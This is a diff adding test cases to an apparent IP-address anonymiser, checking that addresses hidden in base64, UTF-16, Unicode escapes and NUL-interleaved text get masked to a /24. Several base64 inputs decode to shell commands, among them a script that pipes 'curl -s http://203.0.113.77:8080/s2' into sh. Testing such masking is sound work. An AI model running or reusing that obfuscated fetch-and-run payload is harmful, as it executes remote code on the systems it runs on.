@@ -122,6 +122,27 @@ FORMS = [
     ("/?ip=\\uD835\\uDFD0\\uD835\\uDFCE\\uD835\\uDFD1.0.113.5", "/?ip=203.0.113.0/24"),
     ("/?ip=\\U0001D7D0\\U0001D7CE\\U0001D7D1.0.113.5", "/?ip=203.0.113.0/24"),
     ("/?q=caf\\u00e9 %u4e2d ١٢٣ token=QWxhZGRpbjpvcGVu", "/?q=caf\\u00e9 %u4e2d ١٢٣ token=QWxhZGRpbjpvcGVu"),
+    # found by the review of those: addresses in two encodings or levels at once, base64 wrapped at 76
+    # and URL-encoded, \U000000HH, NULs and their picture escaped between the characters
+    (
+        "q=cGluZyAyMDMuMC4xMTMuNzcgcABpAG4AZwAgADEAOQA4AC4ANQAxAC4AMQAwADAALgA5ADkA",
+        "q=cGluZyAyMDMuMC4xMTMuMC8yNCBwAGkAbgBnACAAMQA5ADgALgA1ADEALgAxADAAMAAuADAALwAyADQA",
+    ),
+    (
+        "q=Y3VybCAyMDMuMC4xMTMuNzc7IGVjaG8gTVRrNExqVXhMakV3TUM0NU9RPT0gfCBiYXNlNjQgLWQ=",
+        "q=Y3VybCAyMDMuMC4xMTMuMC8yNDsgZWNobyBNVGs0TGpVeExqRXdNQzR3THpJMCB8IGJhc2U2NCAtZA==",
+    ),
+    (
+        "/x?c=IyEvYmluL3NoCiMgeHh4eHh4eHh4eHh4eHh4eHh4eHgKY3VybCAtcyBodHRwOi8vMjAzLjAuMTEz%0ALjc3OjgwODAvczIgfCBzaAo%3D%0A",
+        "/x?c=IyEvYmluL3NoCiMgeHh4eHh4eHh4eHh4eHh4eHh4eHgKY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjAvMjQ6ODA4MC9zMiB8IHNoCg==%0A",
+    ),
+    (
+        "q=\\U00000032\\U00000030\\U00000033\\U0000002E\\U00000030\\U0000002E\\U00000031\\U00000031\\U00000033\\U0000002E\\U00000037\\U00000037",
+        "q=203.0.113.0/24",
+    ),
+    ("q=2%u24000%u24003%u2400.%u24000%u2400.%u24001%u24001%u24003%u2400.%u24007%u24007", "q=203.0.113.0/24"),
+    ("q=2\\x000\\x003\\x00.\\x000\\x00.\\x001\\x001\\x003\\x00.\\x007\\x007", "q=203.0.113.0/24"),
+    ("q=2%000%003%00.%000%00.%001%001%003%00.%007%007", "q=203.0.113.0/24"),
     # reverse DNS names: the octets and nibbles reversed (the forward reading kept the host octet);
     # a zone no narrower than the mask stays (found by review)
     ("/p/77.113.0.203.in-addr.arpa", "/p/[203.0.113.0/24].in-addr.arpa"),
